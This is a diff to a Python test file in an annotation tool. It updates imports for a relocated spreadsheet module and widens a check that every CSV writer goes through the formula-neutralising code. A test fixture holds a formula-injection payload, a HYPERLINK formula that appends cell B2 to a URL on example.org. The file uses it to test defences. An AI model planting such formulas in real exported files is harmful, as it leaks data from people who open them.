@@ -12,14 +12,14 @@ import pandas as pd
 import pytest
 from django.contrib.auth.models import User
 
-from prb_annotate import spreadsheets
 from prb_annotate.campaigns.annotating import Answers, submit
 from prb_annotate.campaigns.assignment import next_assignment
 from prb_annotate.campaigns.lifecycle import add_member, create_campaign, set_status
 from prb_annotate.datasets.importing import import_upload
 from prb_annotate.exports.export import export_split
+from prb_annotate.formats import spreadsheets
+from prb_annotate.formats.spreadsheets import FORMULA_STARTS, neutralised_cell, original_cell
 from prb_annotate.models import Campaign
-from prb_annotate.spreadsheets import FORMULA_STARTS, neutralised_cell, original_cell
 from tests.support.exports import jsonl
 
 LEAK = '=HYPERLINK("http://example.org/?leak="&B2,"x")'
@@ -151,15 +151,21 @@ def test_it_neutralises_a_cell_as_owasp_says_and_undoes_it_exactly(value: str, c
 
 def test_every_csv_writer_goes_through_the_neutralising_module() -> None:
     """No module writes CSV by itself: ``csv.writer``, ``csv.DictWriter`` and pandas'
-    ``to_csv`` appear in ``spreadsheets.py`` only, so a new CSV download cannot forget the
-    rule. (Readers of CSV are free to use the csv module.)"""
+    ``to_csv`` appear in the neutralising modules only (``formats/spreadsheets.py``, and
+    ``evaluation/spreadsheet_cells.py`` for ``compare --format csv``), so a new CSV download
+    cannot forget the rule. (Readers of CSV are free to use the csv module.)"""
     root = Path(__file__).resolve().parents[2]
-    assert (root / "prb_annotate" / "spreadsheets.py").is_file(), root
+    allowed = {
+        root / "prb_annotate" / "formats" / "spreadsheets.py",
+        root / "evaluation" / "spreadsheet_cells.py",
+    }
+    assert all(path.is_file() for path in allowed), allowed
     writers = re.compile(r"\bcsv\.(writer|DictWriter)\(|\.to_csv\(")
     offenders = [
         f"{path.relative_to(root)}:{number}"
-        for path in sorted((root / "prb_annotate").rglob("*.py"))
-        if path.name != "spreadsheets.py"
+        for folder in ("prb_annotate", "evaluation")
+        for path in sorted((root / folder).rglob("*.py"))
+        if path not in allowed
         for number, line in enumerate(path.read_text().splitlines(), 1)
         if writers.search(line)
     ]
